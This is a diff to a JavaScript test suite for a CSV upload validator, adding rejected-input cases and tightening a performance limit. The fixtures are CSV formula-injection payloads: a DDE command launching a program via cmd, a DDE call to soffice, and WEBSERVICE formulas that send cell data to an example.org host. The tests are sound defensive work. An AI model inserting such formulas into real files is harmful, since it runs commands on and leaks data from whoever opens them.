@@ -173,6 +173,10 @@ describe('a file that is not accepted', () => {
     ['a,b\n"=DDE(""soffice"";""/tmp/x"";""a"")",1\n'],
     ['a,b\n"=WEBSERVICE(""https://example.org/""&A1)",1\n'],
     ['a,=WEBSERVICE(A1)\n'],
+    // A mark in another line hides nothing.
+    ["a|'\n=cmd|'/C calc'!A0\n'!b"],
+    ['RTD(1),=RTD(1,2)'],
+    ['RTD(1)\nRTD(2),a\n1,=1+RTD(1,2)'],
     ['a,=WEBSERVICE( A1 B1)\n'],
     ['a,=RTD (a b,c)\n'],
     [`${'a,b\n'.repeat(16_383)}=cmd|'/C calc'!A0`],
@@ -192,6 +196,9 @@ describe('a file that is not accepted', () => {
     ['=|'],
     ["|'"],
     ['DDE '],
+    ['x\n'],
+    ['\r\n--'],
+    ['RTD(\n'],
     ["=a|'b'!c "],
     ["'|'"],
     ["|'a'"],
@@ -202,7 +209,7 @@ describe('a file that is not accepted', () => {
     const content = text.repeat(2_000_000 / text.length);
     const begunMs = performance.now();
     await receive('a.csv', content).catch(() => undefined);
-    expect(performance.now() - begunMs).toBeLessThan(1000);
+    expect(performance.now() - begunMs).toBeLessThan(700);
   });
 
   it('is told from a password by its ending', async () => {
